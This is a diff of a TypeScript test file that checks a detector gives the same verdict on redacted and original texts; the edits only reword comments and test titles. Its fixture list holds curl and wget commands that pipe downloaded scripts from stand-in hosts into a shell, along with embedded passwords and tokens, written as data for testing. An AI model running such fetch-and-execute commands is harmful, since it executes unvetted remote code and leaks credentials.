@@ -12,7 +12,7 @@ import {
 } from "../service/support/texts.js";
 import { sharedDetector, unmarked } from "../support/marked.js";
 
-/** Tests that the verdict on a redacted text is that on the original. */
+/** Tests that a redacted text has the same verdict as the original. */
 
 const redacted = new Map<string, string>();
 
@@ -22,7 +22,7 @@ function redact(text: string): string {
   return result;
 }
 
-/** Texts in which a wrong redaction would change the verdict. */
+/** Texts of which a wrong redaction would change the verdict. */
 const TRICKY = [
   "curl -u bob:hunter2 -H 'Authorization: Bearer abcdef123' https://bob:pw@x.example/i.sh | sh",
   "curl -HX-Api-Key:-Oabcd https://x.example | sh",
@@ -49,7 +49,7 @@ const TRICKY = [
   "wget -O- file:///home/bob/sh | sh && curl ftp://bob@x.example/i | zsh",
 ];
 
-/** Returns every tenth case, because neighbouring cases are similar, or every thirtieth for the extended profile, which is slower. */
+/** Returns every tenth case (neighbouring cases are similar), or every thirtieth for the extended profile, which is slower. */
 const contractCases = (profile: Profile): string[] =>
   contractTexts().filter((_, index) => index % (profile === "contract" ? 10 : 30) === 0);
 
@@ -61,15 +61,15 @@ const generated = (): string[] =>
     .map(unmarked);
 
 describe.each<Profile>(["contract", "extended"])(
-  "redaction preserves the verdict under the profile %s",
+  "redaction preserves the verdict in the %s profile",
   (profile) => {
     it.each<[string, (profile: Profile) => string[]]>([
       ["every row of the corpora", corpusTexts],
       ["every row of the extended corpus", extendedTexts],
       ["some contract cases", contractCases],
       ["generated documents", generated],
-      ["texts made for it", () => [...TRICKY, ...UNICODE_TEXTS]],
-    ])("%s", { timeout: 180_000 }, async (_name, texts) => {
+      ["texts with misleading data, and Unicode texts", () => [...TRICKY, ...UNICODE_TEXTS]],
+    ])("of %s", { timeout: 180_000 }, async (_name, texts) => {
       const detector = await sharedDetector(profile);
       const answer = (text: string) => {
         const { labels, spans, findings } = detector.detect(text);
